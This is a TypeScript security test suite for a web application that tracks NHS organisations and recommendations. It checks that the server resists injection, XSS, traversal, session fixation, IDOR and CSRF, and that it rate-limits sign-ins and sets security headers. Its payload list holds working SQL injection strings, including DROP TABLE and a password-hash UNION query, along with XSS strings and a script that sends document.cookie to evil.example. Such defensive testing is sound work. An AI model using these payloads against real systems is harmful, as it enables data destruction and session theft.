/**
 * requirements §6, "threats to test", against the real server on every engine: SQL injection and XSS
 * payloads in every text field (stored, then read back; reflected, then rendered), path traversal
 * in import paths, oversized bodies, session fixation and rotation, IDOR, CSRF on each form and on
 * a cookie-authenticated API write, sign-in rate limit and lockout, cookie flags and security
 * headers.
 */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { listAuditEvents } from "../../src/services/audit.js";
import { InvalidInputError } from "../../src/services/errors.js";
import { THROTTLE_AFTER_FAILURES } from "../../src/services/identity.js";
import { importBundle } from "../../src/services/import-bundle.js";
import { createRecommendation } from "../../src/services/workflow.js";
import { buildServer } from "../../src/web/server.js";
import { SIGN_IN_ATTEMPTS_PER_MINUTE } from "../../src/web/sign-in.js";
import { NT_RI } from "../assessment/fixture.js";
import { startApiServer, TODAY, type ApiServer } from "../api/api-server.js";
import {
  cookieHeader,
  createAccount,
  setCookies,
  signInForm,
  signInThroughForm,
  SYSTEM,
  TEST_PASSWORD,
} from "../support/access.js";
import { testEngines } from "../support/database.js";

/** Classic SQL injection and XSS payloads (OWASP cheat sheets), each tried in every text field. */
export const PAYLOADS = [
  "'; DROP TABLE notes; --",
  "' OR '1'='1",
  "1; SELECT pg_sleep(5); --",
  '" OR ""="',
  "') UNION SELECT password_hash, username FROM users --",
  "$$; DELETE FROM users; $$",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(document.cookie)",
  "<svg/onload=alert(1)>",
  "{{ 7*7 }}{% raw %}",
  "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
];

for (const engine of testEngines()) {
  describe(`threats [${engine}] (requirements §6: injection, traversal, limits, fixation, IDOR, CSRF)`, () => {
    let s: ApiServer;
    let out: string; // an organisation outside London's scope
    before(async () => {
      // Many sign-ins from one address: the rate limit has its own test below, on its own server.
      s = await startApiServer(engine, { signInAttemptsPerMinute: 10_000 });
      const dir = mkdtempSync(join(tmpdir(), "oversight-threats-"));
      writeFileSync(
        join(dir, "organisations.csv"),
        "code,name,kind,sector,region,icb_code,open_date,close_date\n" +
          "QY2,NHS South West Test Integrated Care Board,icb,,Y58,,2022-07-01,\n" +
          "RY1,South West Test NHS Trust,nhs_trust,acute,Y58,QY2,2001-04-01,\n",
      );
      assert.ok((await importBundle(s.t.ctx, dir, { importedBy: "threats" })).ok);
      rmSync(dir, { recursive: true, force: true });
      out = "RY1";
    });
    after(() => s?.close());

    const post = (path: string, body: unknown, headers: Record<string, string>) =>
      fetch(`${s.base}${path}`, {
        method: "POST",
        headers: { ...headers, "content-type": "application/json" },
        body: JSON.stringify(body),
      });

    it("SQL injection and XSS payloads in every stored text field are kept as text and read back unchanged", async (t) => {
      const national = s.as.national.headers;
      const rsg = s.as.rsg.headers;
      let tried = 0;
      for (const p of PAYLOADS) {
        const note = await post(
          `/api/organisations/${NT_RI}/notes`,
          { source: p, body: p, confidentiality: "official" },
          national,
        );
        assert.equal(note.status, 201, await note.clone().text());
        const judgement = await post(
          "/api/judgements",
          {
            org_code: NT_RI,
            kind: "mitigating_circumstances",
            summary: p,
            recorded_on: "2019-03-01",
          },
          national,
        );
        assert.equal(judgement.status, 201, await judgement.clone().text());
        const rec = await post(
          "/api/recommendations",
          {
            org_code: NT_RI,
            proposed_on: "2019-03-05",
            from_segment: 2,
            to_segment: 3,
            rationale: p,
            proposed_support: p,
            proposer_team: p,
            proposed_enforcement: "seeking_actions",
          },
          national,
        );
        assert.equal(rec.status, 201, await rec.clone().text());
        const { id, version } = (await rec.json()) as { id: number; version: number };
        const submitted = (await (
          await post(`/api/recommendations/${id}/submit`, { version }, national)
        ).json()) as { version: number };
        const decided = await post(
          `/api/recommendations/${id}/decision`,
          {
            body: "rsg",
            decided_on: "2019-03-06",
            outcome: "rejected",
            reference: p,
            version: submitted.version,
          },
          rsg,
        );
        assert.equal(decided.status, 201, await decided.clone().text());
        tried += 7; // note source and body, judgement summary, rationale, support, team, reference
        const stored = (await (
          await fetch(`${s.base}/api/recommendations/${id}`, { headers: national })
        ).json()) as Record<string, unknown>;
        assert.equal(stored.rationale, p);
        assert.equal(stored.proposed_support, p);
        assert.equal(stored.proposer_team, p);
      }
      const notes = (await (
        await fetch(`${s.base}/api/organisations/${NT_RI}/notes`, { headers: national })
      ).json()) as { notes: { body: string; source: string }[] };
      for (const p of PAYLOADS)
        assert.ok(
          notes.notes.some((n) => n.body === p && n.source === p),
          p,
        );
      const decisions = (await (
        await fetch(`${s.base}/api/decisions?org=${NT_RI}`, { headers: national })
      ).json()) as { decisions: { reference: string }[] };
      for (const p of PAYLOADS)
        assert.ok(
          decisions.decisions.some((d) => d.reference === p),
          p,
        );
      // Stored XSS: the staff pages that show these fields escape them (requirements §5's pages).
      const recs = (await (
        await fetch(`${s.base}/api/recommendations?org=${NT_RI}`, { headers: national })
      ).json()) as { recommendations: { id: number }[] };
      for (const path of [
        `/organisations/${NT_RI}`,
        "/recommendations",
        ...recs.recommendations.map((r) => `/recommendations/${r.id}`),
      ]) {
        const page = await fetch(`${s.base}${path}`, { headers: national });
        assert.equal(page.status, 200, path);
        const html = await page.text();
        for (const p of PAYLOADS)
          if (/[<>"]/.test(p)) assert.ok(!html.includes(p), `${path} shows a payload raw: ${p}`);
      }
      // The tables are all still there, and the users too.
      for (const table of ["notes", "users", "recommendations", "judgements"])
        await s.t.db.query(`SELECT 1 FROM ${table} LIMIT 1`);
      assert.ok((await s.t.db.query("SELECT 1 FROM users")).length >= 3);
      t.diagnostic(
        `${PAYLOADS.length} payloads × ${tried / PAYLOADS.length} stored fields = ${tried}`,
      );
    });

    it("payloads in query parameters, path segments and the sign-in form are refused or escaped, never executed or reflected raw", async (t) => {
      let tried = 0;
      for (const p of PAYLOADS) {
        const q = encodeURIComponent(p);
        for (const path of [
          `/api/organisations?as_of=${q}`,
          `/api/organisations/${q}`,
          `/api/judgements?org=${q}`,
          `/api/recommendations?org=${q}&state=${q}`,
          `/api/reviews?region=${q}`,
          `/api/audit?entity_type=${q}`,
        ]) {
          const response = await fetch(`${s.base}${path}`, { headers: s.as.national.headers });
          tried++;
          assert.ok([400, 404].includes(response.status), `${path}: ${response.status}`);
          assert.match(response.headers.get("content-type") ?? "", /^application\/json/);
        }
        // Reflected into HTML: the public and staff pages' date and search, and the sign-in
        // form's next.
        for (const [path, headers] of [
          [`/public?as_of=${q}`, {}],
          [`/public?q=${q}`, {}],
          [`/sign-in?next=${q}`, {}],
          [`/organisations?q=${q}`, s.as.national.headers],
          [`/organisations?as_of=${q}`, s.as.national.headers],
        ] as const) {
          const html = await (await fetch(`${s.base}${path}`, { headers })).text();
          tried++;
          if (/[<>"]/.test(p)) assert.ok(!html.includes(p), `${path} reflected the payload raw`);
        }
        const { response } = await signInThroughForm(s.base, p, p);
        tried++;
        const html = await response.text();
        assert.equal(response.status, 401);
        if (/[<>"]/.test(p))
          assert.ok(!html.includes(p), "the sign-in form reflected the username raw");
      }
      t.diagnostic(`${PAYLOADS.length} payloads × 12 reflected inputs = ${tried}`);
    });

    it("path traversal in an import: a bundle file that is a link to a file elsewhere is refused, nothing imported", async () => {
      const dir = mkdtempSync(join(tmpdir(), "oversight-traversal-"));
      const secret = mkdtempSync(join(tmpdir(), "oversight-secret-"));
      try {
        writeFileSync(
          join(secret, "elsewhere.csv"),
          "code,name,kind,sector,region,icb_code,open_date,close_date\nRZ9,Planted,nhs_trust,acute,Y56,,2001-04-01,\n",
        );
        symlinkSync(join(secret, "elsewhere.csv"), join(dir, "organisations.csv"));
        await assert.rejects(importBundle(s.t.ctx, dir, { importedBy: "t" }), InvalidInputError);
        await assert.rejects(
          importBundle(s.t.ctx, join(dir, "..", "no-such-bundle"), { importedBy: "t" }),
        );
        assert.deepEqual(await s.t.db.query("SELECT 1 FROM organisations WHERE code = 'RZ9'"), []);
      } finally {
        rmSync(dir, { recursive: true, force: true });
        rmSync(secret, { recursive: true, force: true });
      }
    });

    it("oversized bodies are refused with a clear 413: the API's JSON (1 MB) and the sign-in form (16 kB)", async () => {
      const big = await post(
        `/api/organisations/${NT_RI}/notes`,
        { source: "s", body: "x".repeat(1_100_000), confidentiality: "official" },
        s.as.national.headers,
      );
      assert.equal(big.status, 413);
      assert.match(
        ((await big.json()) as { error: { message: string } }).error.message,
        /too large/i,
      );
      const form = await signInForm(s.base);
      const huge = await fetch(`${s.base}/sign-in`, {
        method: "POST",
        headers: {
          "content-type": "application/x-www-form-urlencoded",
          cookie: cookieHeader(form.jar),
        },
        body: new URLSearchParams({
          username: "x".repeat(20_000),
          password: "p",
          _csrf: form.csrf,
        }).toString(),
      });
      assert.equal(huge.status, 413);
      assert.match(await huge.text(), /Too much data/);
    });

    it("session fixation: a session id planted before sign-in is never used; sign-in issues a new one, and signing in again ends the old", async () => {
      await createAccount(s.t.ctx, {
        username: "fixation.victim",
        role: "regional_team",
        scope: "Y56",
      });
      const planted = "A".repeat(43);
      const first = await signInThroughForm(
        s.base,
        "fixation.victim",
        TEST_PASSWORD,
        new Map([["oversight_session", planted]]),
      );
      assert.equal(first.response.status, 303);
      const session = first.jar.get("oversight_session")!;
      assert.ok(session && session !== planted);
      const cookie = first.response.headers
        .getSetCookie()
        .find((c) => c.startsWith("oversight_session="))!;
      assert.match(cookie, /HttpOnly/i);
      assert.match(cookie, /Secure/i);
      assert.match(cookie, /SameSite=Lax/i);
      // The planted id authenticates nothing; the new one does.
      const asPlanted = await fetch(`${s.base}/api/recommendations`, {
        headers: { cookie: `oversight_session=${planted}` },
      });
      assert.equal(asPlanted.status, 403);
      const asVictim = await fetch(`${s.base}/api/recommendations`, {
        headers: { cookie: `oversight_session=${session}` },
      });
      assert.equal(asVictim.status, 200);
      // Rotation: signing in again from the same browser ends the previous session.
      const second = await signInThroughForm(s.base, "fixation.victim", TEST_PASSWORD, first.jar);
      assert.equal(second.response.status, 303);
      assert.notEqual(second.jar.get("oversight_session"), session);
      const old = await fetch(`${s.base}/api/recommendations`, {
        headers: { cookie: `oversight_session=${session}` },
      });
      assert.equal(old.status, 403);
    });

    it("IDOR: London's team swapping in another region's recommendation id is answered as a missing one (404, requirements §20), its organisation refused (403); all audited", async () => {
      const theirs = await createRecommendation(s.t.ctx, SYSTEM, {
        org_code: out,
        proposed_on: "2019-03-05",
        from_segment: 2,
        to_segment: 3,
        rationale: "South West's",
        proposed_enforcement: "seeking_actions",
      });
      const region = s.as.region.headers;
      assert.equal(
        (await fetch(`${s.base}/api/recommendations/${theirs.id}`, { headers: region })).status,
        404,
      );
      assert.equal(
        (
          await post(
            `/api/recommendations/${theirs.id}/withdraw`,
            { version: theirs.version },
            region,
          )
        ).status,
        404,
      );
      assert.equal(
        (await fetch(`${s.base}/api/organisations/${out}/notes`, { headers: region })).status,
        403,
      );
      assert.equal(
        (
          await post(
            `/api/organisations/${out}/notes`,
            { source: "s", body: "b", confidentiality: "official" },
            region,
          )
        ).status,
        403,
      );
      const listed = (await (
        await fetch(`${s.base}/api/recommendations`, { headers: region })
      ).json()) as { recommendations: { org_code: string }[] };
      assert.ok(
        listed.recommendations.every((r) => r.org_code !== out),
        "lists are filtered to the scope",
      );
      const denied = (await listAuditEvents(s.t.ctx, SYSTEM)).filter(
        (e) =>
          e.action === "access.denied" &&
          (e.actor as { user: string }).user === s.as.region.username,
      );
      assert.ok(denied.length >= 4);
    });

    it("CSRF: the sign-in and sign-out forms refuse a missing or forged token (403); a cookie-signed-in API write needs x-csrf-token", async () => {
      await createAccount(s.t.ctx, { username: "csrf.user", role: "regional_team", scope: "Y56" });
      const form = await signInForm(s.base);
      const attempts = [
        { cookie: "", token: undefined },
        { cookie: cookieHeader(form.jar), token: undefined },
        { cookie: cookieHeader(form.jar), token: "forged-token" },
        { cookie: "", token: form.csrf },
      ];
      for (const a of attempts) {
        const body = new URLSearchParams({
          username: "csrf.user",
          password: TEST_PASSWORD,
          ...(a.token ? { _csrf: a.token } : {}),
        });
        const r = await fetch(`${s.base}/sign-in`, {
          method: "POST",
          redirect: "manual",
          headers: { "content-type": "application/x-www-form-urlencoded", cookie: a.cookie },
          body: body.toString(),
        });
        assert.equal(r.status, 403, JSON.stringify(a));
        assert.ok(!setCookies(r).get("oversight_session"), "no session without a good token");
      }
      const { jar } = await signInThroughForm(s.base, "csrf.user", TEST_PASSWORD);
      const signOut = await fetch(`${s.base}/sign-out`, {
        method: "POST",
        redirect: "manual",
        headers: { "content-type": "application/x-www-form-urlencoded", cookie: cookieHeader(jar) },
        body: "",
      });
      assert.equal(signOut.status, 403);
      const note = { source: "s", body: "b", confidentiality: "official" };
      const without = await post(`/api/organisations/${NT_RI}/notes`, note, {
        cookie: cookieHeader(jar),
      });
      assert.equal(without.status, 403);
      const page = await signInForm(s.base, jar);
      const withToken = await post(`/api/organisations/${NT_RI}/notes`, note, {
        cookie: cookieHeader(page.jar),
        "x-csrf-token": page.csrf,
      });
      assert.equal(withToken.status, 201, await withToken.clone().text());
      const out = await fetch(`${s.base}/sign-out`, {
        method: "POST",
        redirect: "manual",
        headers: {
          "content-type": "application/x-www-form-urlencoded",
          cookie: cookieHeader(page.jar),
        },
        body: new URLSearchParams({ _csrf: page.csrf }).toString(),
      });
      assert.equal(out.status, 303);
      const after = await fetch(`${s.base}/api/recommendations`, {
        headers: { cookie: cookieHeader(page.jar) },
      });
      assert.equal(after.status, 403, "signed out: the session has ended");
    });

    it(`throttle (requirements §20): after ${THROTTLE_AFTER_FAILURES} wrong passwords even the right one is refused from that address, answered as a wrong one; every attempt is audited`, async () => {
      await createAccount(s.t.ctx, { username: "lock.me", role: "regional_team", scope: "Y56" });
      for (let i = 0; i < THROTTLE_AFTER_FAILURES; i++)
        assert.equal(
          (await signInThroughForm(s.base, "lock.me", "wrong password!")).response.status,
          401,
        );
      const right = await signInThroughForm(s.base, "lock.me", TEST_PASSWORD);
      assert.equal(right.response.status, 401);
      assert.match(await right.response.text(), /The username or password is not right/);
      const events = await listAuditEvents(s.t.ctx, SYSTEM, {
        entity_type: "user",
        entity_id: "lock.me",
      });
      assert.equal(
        events.filter((e) => e.action === "sign_in.failed").length,
        THROTTLE_AFTER_FAILURES + 1,
      );
      assert.equal((events.at(-1)!.after as { reason: string }).reason, "throttled");
      assert.ok(!JSON.stringify(events).includes(TEST_PASSWORD));
    });

    it("sign-in is rate-limited per address: the 11th attempt in a minute is a 429", async () => {
      const limited = await buildServer(s.t.ctx, { today: () => TODAY });
      await limited.listen({ host: "127.0.0.1", port: 0 });
      const address = limited.server.address();
      const base = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
      try {
        const statuses: number[] = [];
        for (let i = 0; i < SIGN_IN_ATTEMPTS_PER_MINUTE + 1; i++)
          statuses.push(
            (await signInThroughForm(base, "nobody", "wrong password")).response.status,
          );
        assert.deepEqual(statuses, [...Array(SIGN_IN_ATTEMPTS_PER_MINUTE).fill(401), 429]);
      } finally {
        await limited.close();
      }
    });

    it("security headers: a CSP without 'unsafe-inline' that allows the template's one inline script by hash; HSTS only over TLS", async () => {
      const page = await fetch(`${s.base}/sign-in`);
      const csp = page.headers.get("content-security-policy") ?? "";
      assert.match(csp, /script-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
      assert.ok(!csp.includes("unsafe-inline"));
      assert.match(csp, /frame-ancestors 'none'/);
      assert.equal(page.headers.get("strict-transport-security"), null);
      assert.equal(page.headers.get("x-content-type-options"), "nosniff");
      const behindTls = await buildServer(s.t.ctx, { today: () => TODAY, trustProxy: true });
      const answer = await behindTls.inject({
        url: "/sign-in",
        headers: { "x-forwarded-proto": "https" },
      });
      assert.match(String(answer.headers["strict-transport-security"]), /max-age=\d+/);
      const plain = await behindTls.inject({ url: "/sign-in" });
      assert.equal(plain.headers["strict-transport-security"], undefined);
      await behindTls.close();
    });
  });
}
